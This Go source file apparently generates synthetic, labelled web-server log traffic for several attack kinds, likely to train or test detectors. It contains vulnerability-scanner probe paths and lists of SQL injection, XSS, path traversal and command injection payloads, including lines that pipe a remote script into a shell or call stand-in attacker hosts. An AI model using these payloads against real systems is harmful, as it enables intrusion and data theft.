package trafficgen

import (
	"math"
	"strconv"
	"strings"
)

// Kinds of clients, as written to the labels.
const (
	KindNormal      = "normal"
	KindFlood       = "flood"
	KindScan        = "scan"
	KindBruteforce  = "bruteforce"
	KindInjection   = "injection"
	KindScraping    = "scraping"
	KindUpload      = "upload"
	KindEnumeration = "enumeration"
	KindLowSlow     = "lowslow"
)

// AttackKinds returns the attack kinds in a fixed order. The caller owns
// the returned slice.
func AttackKinds() []string {
	return []string{KindFlood, KindScan, KindBruteforce, KindInjection, KindScraping, KindUpload, KindEnumeration, KindLowSlow}
}

// attacker is one attacking address and its plan.
type attacker struct {
	kind  string
	ip    string
	ua    string
	x     float64 // intensity from 0 (subtle) to 1 (blatant)
	onset int64   // Unix milliseconds
	dur   float64 // seconds
	rate  float64 // requests per second
	key   string
	user  string
	uid   string
	hdr   int
	// low and slow
	attempts int
	spacing  float64
	getFirst bool
}

// intensity names the intensity band of an attacker for the labels.
func (at *attacker) intensity() string {
	switch {
	case at.x < 1.0/3:
		return "subtle"
	case at.x < 2.0/3:
		return "moderate"
	default:
		return "blatant"
	}
}

// attack runs an attacker's plan.
func (a *actor) attack(at *attacker) {
	a.t = at.onset
	a.user, a.key = "", at.key
	until := at.onset + int64(at.dur*1000)
	switch at.kind {
	case KindFlood:
		a.flood(at, until)
	case KindScan:
		a.scan(at, until)
	case KindBruteforce:
		a.bruteforce(at, until)
	case KindInjection:
		a.injection(at, until)
	case KindScraping:
		a.scrape(at, until)
	case KindUpload:
		a.oversized(at, until)
	case KindEnumeration:
		a.enumerate(at, until)
	case KindLowSlow:
		a.lowSlow(at)
	}
}

// pace sleeps one gap at rate, either as a Poisson process or as a steady
// tool with jitter cv.
func (a *actor) pace(rate float64, steady bool, cv float64) {
	if steady {
		a.sleep(uniform(a.r, 1-cv, 1+cv) / rate)
		return
	}
	a.sleep(expSeconds(a.r, 1/rate))
}

// flood hammers one to three paths at a high rate.
func (a *actor) flood(at *attacker, until int64) {
	r := a.r
	type target struct {
		method string
		path   string
		ep     *endpoint
	}
	all := []target{
		{"GET", "/", &epPage},
		{"GET", "/api/v1/search?q=", &epSearch},
		{"POST", "/login", &epLogin},
		{"GET", "/api/v1/items?page=1&limit=50", &epItemList},
		{"GET", "/api/v1/items/" + strconv.Itoa(a.item()), &epItem},
		{"GET", "/items/" + strconv.Itoa(a.item()), &epPage},
		{"POST", "/api/v1/cart/items", &epCartAdd},
		{"HEAD", "/", &epPage},
	}
	r.Shuffle(len(all), func(i, j int) { all[i], all[j] = all[j], all[i] })
	targets := all[:1+r.IntN(3)]
	bust := chance(r, 0.3)
	rotate := chance(r, 0.3)
	steady := chance(r, 0.3)
	for a.live() && a.t < until {
		tg := targets[0]
		if len(targets) > 1 && chance(r, 0.4) {
			tg = pick(r, targets[1:])
		}
		a.begin(tg.path)
		if tg.ep == &epSearch {
			a.addQuery(pick(r, searchTerms))
		}
		if bust {
			if strings.IndexByte(tg.path, '?') >= 0 {
				a.addByte('&')
			} else {
				a.addByte('?')
			}
			a.add("_=").addInt(int(r.Int64N(1e12)))
		}
		if rotate {
			a.ua = pick(r, browserAgents)
		}
		status := a.status(tg.method, tg.ep)
		if tg.ep == &epLogin && status < 400 {
			status = 401
		}
		a.send(tg.method, tg.ep, status)
		a.pace(at.rate, steady, 0.2)
	}
}

// Paths that vulnerability scanners probe.
var probePaths = []string{
	"/.env", "/.env.bak", "/.env.local", "/.env.production", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.DS_Store", "/.htaccess", "/.htpasswd",
	"/.aws/credentials", "/.ssh/id_rsa", "/.vscode/sftp.json", "/.well-known/security.txt", "/.docker/config.json", "/.npmrc", "/.gitlab-ci.yml",
	"/wp-admin/", "/wp-login.php", "/wp-config.php.bak", "/wp-content/plugins/revslider/temp/update_extract/", "/wp-includes/wlwmanifest.xml", "/xmlrpc.php",
	"/phpmyadmin/", "/pma/", "/myadmin/", "/phpMyAdmin/index.php", "/admin/", "/administrator/", "/admin.php", "/admin/login", "/admin/config.php",
	"/config.php", "/config.json", "/config.yml", "/config/database.yml", "/web.config", "/server-status", "/server-info", "/info.php", "/phpinfo.php", "/test.php",
	"/shell.php", "/cmd.php", "/upload.php", "/actuator", "/actuator/env", "/actuator/health", "/actuator/heapdump", "/swagger-ui.html", "/swagger.json",
	"/api/swagger.json", "/v2/api-docs", "/v3/api-docs", "/openapi.json", "/graphql", "/graphiql", "/console", "/debug/pprof/", "/metrics", "/jenkins/login",
	"/manager/html", "/telescope/requests", "/_ignition/execute-solution", "/laravel/.env", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/solr/admin/info/system", "/cgi-bin/luci", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/boaform/admin/formLogin", "/HNAP1/", "/owa/auth/logon.aspx",
	"/remote/login", "/global-protect/login.esp", "/mgmt/tm/util/bash", "/vpn/../vpns/cfg/smb.conf", "/druid/index.html", "/nacos/", "/containers/json",
	"/backup.zip", "/backup.sql", "/backup.tar.gz", "/db.sql", "/dump.sql", "/database.sql", "/site.tar.gz", "/www.zip", "/id_rsa", "/composer.json",
	"/package.json", "/Dockerfile", "/docker-compose.yml", "/.travis.yml", "/sftp-config.json", "/user/login", "/login.action", "/struts2-showcase/",
	"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
	"/Telerik.Web.UI.WebResource.axd?type=rau", "/autodiscover/autodiscover.json?@zdi/Powershell", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
	"/api/v1/pods", "/api/jsonws/invoke", "/jmx-console/", "/web-console/", "/invoker/JMXInvokerServlet", "/axis2/axis2-admin/", "/_profiler/phpinfo",
	"/app_dev.php/_profiler/open?file=app/config/parameters.yml", "/sites/default/settings.php", "/user/register?element_parents=account/mail/%23value&ajax_form=1",
	"/.well-known/openid-configuration", "/api/v1/admin", "/api/v1/internal/config", "/api/v1/debug", "/api/v2/users", "/api/admin/users", "/robots.txt", "/sitemap.xml",
}

var dirWords = []string{"admin", "backup", "old", "test", "dev", "api", "private", "uploads", "files", "tmp", "logs", "config", "db", "data", "secret", "internal", "staging", "beta", "new", "bak", "install", "setup", "panel", "dashboard", "portal"}
var dirExts = []string{"", "/", ".php", ".bak", ".zip", ".old", ".txt", ".json", ".sql", ".tar.gz", ".asp", ".jsp"}

// scan probes many well-known paths, mostly getting 404s.
func (a *actor) scan(at *attacker, until int64) {
	r := a.r
	probes := append([]string(nil), probePaths...)
	if at.x > 0.4 { // a bigger wordlist
		for _, w := range dirWords {
			for _, e := range dirExts {
				probes = append(probes, "/"+w+e)
			}
		}
	}
	r.Shuffle(len(probes), func(i, j int) { probes[i], probes[j] = probes[j], probes[i] })
	if chance(r, 0.5) {
		probes = append([]string{"/", "/robots.txt"}, probes...)
	}
	head := chance(r, 0.15)
	steady := chance(r, 0.5)
	burst := chance(r, 0.3) // fast bursts with pauses
	for i := 0; a.live() && a.t < until && i < len(probes); i++ {
		path := probes[i]
		method := "GET"
		if head && chance(r, 0.7) {
			method = "HEAD"
		} else if strings.HasSuffix(path, ".php") && chance(r, 0.2) || path == "/xmlrpc.php" || path == "/boaform/admin/formLogin" {
			method = "POST"
		}
		a.begin(path)
		a.probe(method, path)
		if burst && i%int(10+at.x*40) == 0 && i > 0 {
			a.sleep(uniform(r, 5, 30))
		} else {
			a.pace(at.rate, steady, 0.3)
		}
	}
}

// probe answers a scanner's request the way the site would.
func (a *actor) probe(method, path string) {
	r := a.r
	switch {
	case path == "/":
		a.send(method, &epPage, 0)
	case path == "/robots.txt":
		a.send(method, &epMisc, 0)
	case path == "/sitemap.xml":
		a.send(method, &epSitemap, 0)
	case a.limited():
		a.send(method, &epNotFound, 429)
	case strings.Contains(path, "..") || strings.Contains(path, "%2e") || strings.Contains(path, "\\"):
		a.send(method, &epNotFound, 400)
	case strings.HasPrefix(path, "/.") && a.w.dotfiles403:
		a.send(method, &epNotFound, 403)
	case method == "POST" && chance(r, 0.5):
		a.send(method, &epNotFound, 405)
	case strings.HasPrefix(path, "/admin") && chance(r, 0.5):
		a.begin(path)
		a.emit(method, 302, 0, 0, uniform(r, 1, 5))
	case strings.HasPrefix(path, "/api/"):
		a.send(method, &epItem, pick(r, []int{404, 404, 404, 401}))
	case chance(r, 0.01): // a catch-all route
		a.send(method, &epPage, 200)
	default:
		a.send(method, &epNotFound, 404)
	}
}

// bruteforce tries passwords on the login form at a few per second.
func (a *actor) bruteforce(at *attacker, until int64) {
	r := a.r
	steady := chance(r, 0.6)
	for a.live() && a.t < until {
		if at.getFirst {
			a.begin("/login")
			a.send("GET", &epLoginPage, 0)
			a.sleep(uniform(r, 0.05, 0.6))
		}
		a.begin("/login")
		switch {
		case a.loginLimited() || a.limited():
			a.send("POST", &epLogin, 429)
		case chance(r, 0.004):
			a.emit("POST", a.w.loginOK, epLogin.req.draw(r), a.w.loginOKBytes(r), epLogin.dur.draw(r))
		case chance(r, 0.01):
			a.send("POST", &epLogin, 400)
		default:
			a.send("POST", &epLogin, 401)
		}
		a.pace(at.rate, steady, 0.25)
	}
}

// Injection payloads by class.
var (
	sqliPayloads = []string{
		"' OR '1'='1", "1' OR 1=1--", "1 UNION SELECT username,password FROM users--", "1; DROP TABLE users", "admin'--",
		"1' AND SLEEP(5)--", "1 AND 1=CONVERT(int,(SELECT @@version))", "' UNION SELECT NULL,NULL,NULL--", "1') OR ('1'='1",
		"1 ORDER BY 10--", "1' WAITFOR DELAY '0:0:5'--", "1 AND extractvalue(1,concat(0x7e,version()))", "1'||pg_sleep(5)--",
		"-1 UNION ALL SELECT table_name,2 FROM information_schema.tables", "1 AND 1=2", "\" OR \"\"=\"",
	}
	xssPayloads = []string{
		"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(document.domain)>", "javascript:alert(1)",
		"'-alert(1)-'", "<iframe src=javascript:alert(1)>", "{{7*7}}", "${7*7}", "<body onload=alert(1)>", "\"><script src=//198.51.100.66/x.js></script>",
	}
	traversalPayloads = []string{
		"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fwindows%2fwin.ini",
		"..;/..;/WEB-INF/web.xml", "file:///etc/passwd", "/proc/self/environ", "..\\..\\..\\windows\\win.ini",
	}
	cmdiPayloads = []string{
		";id", "|cat /etc/passwd", "$(whoami)", "`uname -a`", "&& ping -c 4 127.0.0.1", "; curl http://198.51.100.23/x.sh | sh",
		"${jndi:ldap://198.51.100.9:1389/a}", "| nslookup x.attacker.example",
	}
)

// injection probes parameters of real routes with attack payloads,
// between ordinary requests.
func (a *actor) injection(at *attacker, until int64) {
	r := a.r
	encodeAll := chance(r, 0.5)
	// Look around first, as a visitor would.
	for range r.IntN(6) {
		switch r.IntN(4) {
		case 0:
			a.begin("/")
			a.send("GET", &epPage, 0)
		case 1:
			a.begin("/api/v1/items?page=").addInt(1 + r.IntN(3)).add("&limit=24")
			a.send("GET", &epItemList, 0)
		case 2:
			a.begin("/api/v1/search?q=").addQuery(pick(r, []string{"test", "a", "1", pick(r, searchTerms)}))
			a.send("GET", &epSearch, 0)
		default:
			a.begin("/api/v1/items/").addInt(a.item())
			a.send("GET", &epItem, 0)
		}
		a.sleep(uniform(r, 0.5, 4))
	}
	classes := [][]string{sqliPayloads, xssPayloads, traversalPayloads, cmdiPayloads}
	w := []float64{0.45, 0.25, 0.15, 0.15}
	for a.live() && a.t < until {
		if chance(r, 0.2) { // an ordinary request
			a.begin("/api/v1/items/").addInt(a.item())
			a.send("GET", &epItem, 0)
			a.pace(at.rate, false, 0)
			continue
		}
		class := weighted(r, w)
		payload := pick(r, classes[class])
		method := "GET"
		switch r.IntN(9) {
		case 0:
			a.begin("/api/v1/items/")
		case 1:
			a.begin("/api/v1/items?sort=")
		case 2:
			a.begin("/api/v1/users/1/orders?status=")
		case 3:
			a.begin("/download?file=")
		case 4:
			a.begin("/api/v1/export?format=csv&fields=")
		case 5: // in the body: invisible but for the answer
			method = "POST"
			a.begin(pick(r, []string{"/login", "/api/v1/orders", "/api/v1/cart/items"}))
			payload = ""
		case 6:
			a.begin("/items/")
		default:
			a.begin("/api/v1/search?q=")
		}
		a.payload(payload, encodeAll)
		status := a.injectionStatus(class)
		dur := lognorm{20, 0.8}.draw(r)
		if status == 200 || status == 500 {
			if strings.Contains(payload, "SLEEP") || strings.Contains(payload, "WAITFOR") || strings.Contains(payload, "pg_sleep") {
				dur += 5000
			}
		}
		body := 0.0
		if method == "POST" {
			body = uniform(r, 80, 900)
		}
		a.emit(method, status, body, a.respSize(&epSearch, status), dur)
		a.pace(at.rate, false, 0)
	}
}

// payload appends an attack string, percent-encoded fully (as sqlmap does)
// or only where a raw byte could not travel in a request line.
func (a *actor) payload(s string, all bool) {
	const hex = "0123456789ABCDEF"
	for i := 0; i < len(s); i++ {
		c := s[i]
		plain := 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9' || c == '-' || c == '_' || c == '.'
		switch {
		case plain:
			a.path = append(a.path, c)
		case c == ' ':
			if all {
				a.path = append(a.path, "%20"...)
			} else {
				a.path = append(a.path, '+')
			}
		case !all && c > ' ' && c < 0x7f && c != '#' && c != '%':
			a.path = append(a.path, c)
		default:
			a.path = append(a.path, '%', hex[c>>4], hex[c&15])
		}
	}
}

// injectionStatus draws the answer to a payload of a class.
func (a *actor) injectionStatus(class int) int {
	r := a.r
	if a.limited() {
		return 429
	}
	if a.w.waf && chance(r, 0.85) {
		return 403
	}
	switch class {
	case 0: // SQL
		return []int{500, 400, 400, 200, 200, 200, 404}[r.IntN(7)]
	case 1: // XSS and templates
		return []int{200, 200, 200, 400, 400}[r.IntN(5)]
	case 2: // traversal
		return []int{400, 400, 404, 404, 200}[r.IntN(5)]
	default: // commands
		return []int{400, 400, 200, 500}[r.IntN(4)]
	}
}

// scrape copies the catalogue at a fast, steady rate.
func (a *actor) scrape(at *attacker, until int64) {
	r := a.r
	mode := r.IntN(4)
	cv := uniform(r, 0.05, 0.5)
	images := chance(r, 0.25)
	rotate := chance(r, 0.1)
	id := 1 + r.IntN(a.w.items)
	term, pg := 0, 1
	for a.live() && a.t < until {
		if rotate {
			a.ua = pick(r, browserAgents)
		}
		switch mode {
		case 0: // item after item through the API
			a.begin("/api/v1/items/").addInt(id)
			if id > a.w.items {
				a.send("GET", &epItem, 404)
				id = 0
			} else {
				a.send("GET", &epItem, 0)
			}
			id++
		case 1: // list pages, then every item on them
			if id%50 == 1 {
				a.begin("/api/v1/items?page=").addInt(id/50 + 1).add("&limit=50")
				a.send("GET", &epItemList, 0)
				a.pace(at.rate, true, cv)
			}
			a.begin("/api/v1/items/").addInt(a.w.itemID(uint64(id)))
			a.send("GET", &epItem, 0)
			id++
		case 2: // the HTML pages, in random order
			a.begin("/items/").addInt(1 + r.IntN(a.w.items))
			a.send("GET", &epPage, 0)
		default: // a sweep through search results
			a.begin("/api/v1/search?q=").addQuery(searchTerms[term%len(searchTerms)]).add("&page=").addInt(pg)
			a.send("GET", &epSearch, 0)
			if pg++; pg > 5 {
				pg, term = 1, term+1
			}
		}
		if images && chance(r, 0.5) {
			a.sleep(uniform(r, 0.01, 0.1))
			a.begin("/assets/img/items/").addInt(1 + r.IntN(a.w.items)).add("-1.webp")
			a.send("GET", &epImage, 0)
		}
		a.pace(at.rate, true, cv)
	}
}

// oversized sends very large request bodies.
func (a *actor) oversized(at *attacker, until int64) {
	r := a.r
	median := lerpLog(40e6, 1e9, at.x)
	knownLength := chance(r, 0.7)
	bps := logUniform(r, 1e6, 60e6)
	path := pick(r, []string{"/api/v1/upload", "/api/v1/upload", "/api/v1/upload", "/api/v1/documents", "avatar"})
	for a.live() && a.t < until {
		if chance(r, 0.15) { // something ordinary in between
			a.begin("/api/v1/me")
			a.send("GET", &epMe, 0)
			a.pace(at.rate, false, 0)
			continue
		}
		if path == "avatar" {
			a.begin("/api/v1/users/").addUserID(at.uid).add("/avatar")
		} else {
			a.begin(path)
		}
		size := math.Max(2e6, lognorm{median, 0.7}.draw(r))
		limit := float64(a.w.uploadLimit)
		switch {
		case a.limited():
			a.emit("POST", 429, size, 80, uniform(r, 0.1, 1))
		case size > limit && knownLength:
			a.emit("POST", 413, size, 183, uniform(r, 0.3, 6))
		case size > limit:
			// Chunked: the gateway reads up to the limit, then refuses.
			a.emit("POST", 413, limit, 183, limit/bps*1000*uniform(r, 0.8, 1.3))
		case size/bps > 60:
			a.emit("POST", 408, size, 160, 60000+uniform(r, 0, 50))
		default:
			a.emit("POST", 201, size, epUpload.resp.draw(r), epUpload.dur.draw(r)+size/bps*1000)
		}
		a.pace(at.rate, false, 0)
	}
}

// enumerate walks sequential ids on one route, mostly getting 403 or 404.
func (a *actor) enumerate(at *attacker, until int64) {
	r := a.r
	a.user = at.user
	type route struct {
		prefix, suffix string
		n              int
	}
	routes := []route{{"/api/v1/users/", "/orders", a.w.users}, {"/api/v1/users/", "", a.w.users}}
	if !a.w.orderUUID {
		routes = append(routes, route{"/api/v1/orders/", "", a.w.orders})
	}
	for _, x := range a.w.extras {
		if !x.uuid {
			routes = append(routes, route{"/api/v1/" + x.name + "/", "", x.n})
		}
	}
	rt := pick(r, routes)
	id := 1
	if chance(r, 0.6) {
		id = 1 + r.IntN(rt.n)
	}
	step := 1
	switch {
	case chance(r, 0.1):
		step = -1
	case chance(r, 0.2):
		step = 0 // random small steps
	}
	hide := chance(r, 0.4) // the site answers 404 instead of 403
	steady := chance(r, 0.7)
	for a.live() && a.t < until {
		a.begin(rt.prefix).addInt(id).add(rt.suffix)
		switch {
		case a.limited():
			a.send("GET", &epOrder, 429)
		case id < 1 || id > rt.n || chance(r, 0.15):
			a.send("GET", &epOrder, 404)
		case chance(r, a.w.idor):
			a.send("GET", &epOrder, 200)
		case hide:
			a.send("GET", &epOrder, 404)
		default:
			a.send("GET", &epOrder, 403)
		}
		if step == 0 {
			id += 1 + r.IntN(5)
		} else {
			id += step
		}
		a.pace(at.rate, steady, 0.2)
	}
}

// lowSlow makes a few login attempts minutes apart from one of many
// addresses of a credential stuffing campaign.
func (a *actor) lowSlow(at *attacker) {
	r := a.r
	for i := 0; i < at.attempts && a.live(); i++ {
		if at.getFirst {
			a.begin("/login")
			a.send("GET", &epLoginPage, 0)
			a.sleep(uniform(r, 1, 5))
		}
		a.begin("/login")
		switch {
		case a.loginLimited():
			a.send("POST", &epLogin, 429)
		case chance(r, 0.04): // a reused password works
			a.emit("POST", a.w.loginOK, epLogin.req.draw(r), a.w.loginOKBytes(r), epLogin.dur.draw(r))
			a.user = at.user
			a.gap()
			a.begin("/api/v1/me")
			a.send("GET", &epMe, 0)
			a.sleep(uniform(r, 0.5, 3))
			a.begin("/api/v1/users/").add(at.uid).add("/orders?page=1")
			a.send("GET", &epOrders, 0)
			a.user = ""
		default:
			a.send("POST", &epLogin, 401)
		}
		a.sleep(clamp(lognorm{at.spacing, 0.35}.draw(r), 45, 400))
	}
}
